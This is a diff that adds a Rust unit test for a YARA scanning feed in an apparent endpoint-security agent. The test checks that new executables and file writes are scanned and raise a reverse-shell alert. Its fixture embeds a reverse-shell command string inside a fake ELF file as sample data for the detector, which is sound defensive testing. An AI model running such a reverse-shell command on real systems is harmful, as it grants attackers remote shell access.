@@ -186,3 +186,88 @@ impl YaraFeed {
         });
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use prost::Message as _;
+    use proto::telemetry::v1::{EventBatch, ExecEvent, FileEvent, FileIdentity};
+
+    use super::*;
+
+    /// Above any pid_max: /proc/<it>/exe never exists.
+    const GONE_PID: u32 = 0x7fff_fff0;
+
+    #[test]
+    fn new_executables_and_writes_are_scanned_known_ones_and_reads_not() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let implant = dir.path().join("implant");
+        let mut content = b"\x7fELF\x02\x01\x01\0".to_vec();
+        content.extend_from_slice(b"\0sh -i >& /dev/udp/127.0.0.1/53 0>&1\0");
+        std::fs::write(&implant, &content).expect("write");
+        let path = implant.to_str().expect("utf-8").to_owned();
+
+        let store = YaraStore::new(load(&YaraConfig::default()).expect("default pack"));
+        let (tx, mut rx) = mpsc::channel(8);
+        let config = YaraConfig {
+            settle_ms: 10,
+            ..YaraConfig::default()
+        };
+        let drops = Arc::new(DropTracker::new());
+        let (feed, stats) = start(store, &config, tx, drops).expect("worker");
+        let time = EventTime {
+            timestamp_ns: 77,
+            boot_time_unix_ns: 0,
+        };
+        let exec = Kind::Exec(ExecEvent {
+            filename: path.clone(),
+            sha256: "ab".repeat(32),
+            file: Some(FileIdentity {
+                device: 0,
+                inode: 0,
+            }),
+            ..ExecEvent::default()
+        });
+        // A cache hit: the file was scanned before, nothing queued.
+        feed.on_event(time, &exec, GONE_PID, false, b"");
+        // A read is no write.
+        let read = Kind::File(FileEvent {
+            operation: Operation::OpenRead as i32,
+            path: path.clone(),
+            ..FileEvent::default()
+        });
+        feed.on_event(time, &read, GONE_PID, false, b"");
+        assert_eq!(stats.stats().queued, 0);
+
+        feed.on_event(time, &exec, GONE_PID, true, b"");
+        let batch = rx.blocking_recv().expect("an alert");
+        let events = EventBatch::decode(batch.as_bytes())
+            .expect("decodes")
+            .events;
+        assert_eq!(events.len(), 1);
+        assert_eq!(events[0].timestamp_ns, 77, "the exec's time");
+        let Some(Kind::Alert(a)) = &events[0].kind else {
+            panic!("{events:?}");
+        };
+        assert_eq!(a.engine(), AlertEngine::Yara);
+        assert_eq!(a.matched_kind(), EventKind::Exec);
+        assert_eq!(a.matched_subject, path);
+        assert_eq!(a.rule_id, "elf_reverse_shell:elf_reverse_shell_string");
+        assert_eq!(a.file_sha256.len(), 64);
+
+        let write = Kind::File(FileEvent {
+            operation: Operation::OpenWrite as i32,
+            path: path.clone(),
+            ..FileEvent::default()
+        });
+        feed.on_event(time, &write, GONE_PID, false, b"");
+        let batch = rx.blocking_recv().expect("an alert");
+        let events = EventBatch::decode(batch.as_bytes())
+            .expect("decodes")
+            .events;
+        let Some(Kind::Alert(a)) = &events[0].kind else {
+            panic!("{events:?}");
+        };
+        assert_eq!(a.matched_kind(), EventKind::File);
+        assert_eq!(stats.stats().queued, 2);
+    }
+}
